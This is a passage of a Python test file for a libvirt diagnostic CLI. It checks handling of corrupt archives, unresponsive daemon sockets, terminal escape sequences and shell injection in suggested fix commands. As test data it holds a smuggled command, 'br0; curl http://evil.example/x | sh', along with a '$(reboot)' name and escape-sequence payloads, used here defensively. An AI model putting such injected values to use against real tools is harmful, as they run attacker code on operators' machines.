    result = runner.invoke(app, ["scan", "--root", str(broken["corrupt.tar.gz"])], env={"COLUMNS": "400"})
    assert result.exit_code in (0, 1, 2) and (result.exception is None or isinstance(result.exception, SystemExit))


def test_empty_archive(broken: dict[str, Path]) -> None:
    """An archive of nothing is not a healthy host: one line saying so, exit 2."""
    with pytest.raises(host_base.Unreadable, match="holds no files"):
        scan(broken["zeros.tar"])
    result = runner.invoke(app, ["scan", "--root", str(broken["zeros.tar"])])
    assert result.exit_code == 2 and result.stderr.count("\n") == 1 and "the archive holds no files" in result.stderr


# --- a hung daemon ----------------------------------------------------------------------------------------


@pytest.fixture
def hung_socket(tmp_path: Path) -> Iterator[Path]:
    """A unix socket that accepts and never answers."""
    path = tmp_path / "hung.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    held: list[socket.socket] = []
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                held.append(server.accept()[0])
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield path
    stop.set()
    thread.join(2)
    for conn in held:
        conn.close()
    server.close()


def test_hung_daemon_through_the_cli(hung_socket: Path, base: Path) -> None:
    pytest.importorskip("libvirt")
    started = time.monotonic()
    code, body = cli_json(["scan", "--root", str(base), "--connect", f"qemu:///system?socket={hung_socket}",
                           "--timeout", "3"], timeout=60)
    elapsed = time.monotonic() - started
    assert elapsed < 15, elapsed
    daemon = [s for s in body["skipped"] if s["what"].startswith("libvirt daemon")]
    assert daemon and "did not answer within 3 s" in daemon[0]["reason"], body["skipped"]
    assert corpus.BASE_FINDING in [f["id"] for f in body["findings"]]


def test_daemon_speaking_garbage(tmp_path: Path, base: Path) -> None:
    """A socket that answers every connection with random bytes and hangs up."""
    pytest.importorskip("libvirt")
    path = tmp_path / "garbage.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(8)
    stop = threading.Event()

    def serve() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(corpus.FILE_CONTENTS["binary-garbage"]()[:4096])

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        started = time.monotonic()
        code, body = cli_json(["scan", "--root", str(base), "--connect", f"qemu:///system?socket={path}",
                               "--timeout", "5"], timeout=60)
        assert time.monotonic() - started < 20
    finally:
        stop.set()
        thread.join(2)
        server.close()
    assert any(s["what"].startswith("libvirt daemon") for s in body["skipped"]), body["skipped"]


# --- what reaches the operator's terminal and clipboard ----------------------------------------------------


INJECTED = "br0; curl http://evil.example/x | sh"


def test_no_terminal_control_characters_in_reports(base: Path, tmp_path: Path) -> None:
    log = base / "var/log/libvirt/libvirtd.log"
    log.write_bytes(log.read_bytes() + b"2024-05-02 09:00:02.000+0000: 1201: error : virNetDevGetMTU:397 : Cannot "
                    b"get interface MTU on 'br\x1b]0;PWNED\x07\x1b[2J9': No such device\n")
    for fmt in ("text", "markdown", "html"):
        out = tmp_path / f"report.{fmt}"
        runner_ok(["scan", "--root", str(base), "--format", fmt, "--output", str(out)])
        shown = out.read_text(encoding="utf-8")
        assert "\x1b" not in shown and "\x07" not in shown, fmt


def _operators(command: str) -> list[str]:
    """The shell control operators (; | & && ||) a command holds outside quotes."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=";&|")
    lexer.whitespace_split = True
    try:
        return [token for token in lexer if token and set(token) <= set(";&|")]
    except ValueError:
        return ["<unbalanced quotes>"]


def test_fix_commands_never_carry_injected_shell() -> None:
    """A captured name with shell syntax must not add a command: each printed command has the same
    operators as its template filled with a plain word, and no unquoted $(...)."""
    from diagnose import rank

    catalog, _ = engine.loaded()
    report = engine.explain(f"error: Cannot get interface MTU on '{INJECTED}': No such device\n"
                            "error: Failed to start domain '$(reboot)'\n")
    checked = 0
    for finding in report.findings:
        sig = catalog.by_id(finding.id)
        assert sig is not None
        for ranked in finding.fixes:
            fix = next(f for f in sig.fixes if f.id == ranked.fix_id)
            for template, command in zip(fix.commands, ranked.commands, strict=True):
                benign = rank.PLACEHOLDER_RE.sub("x", template)
                assert _operators(command) == _operators(benign), command
                assert not re.search(r"(?<!')\$\(reboot\)", command), command
                checked += 1
    assert checked
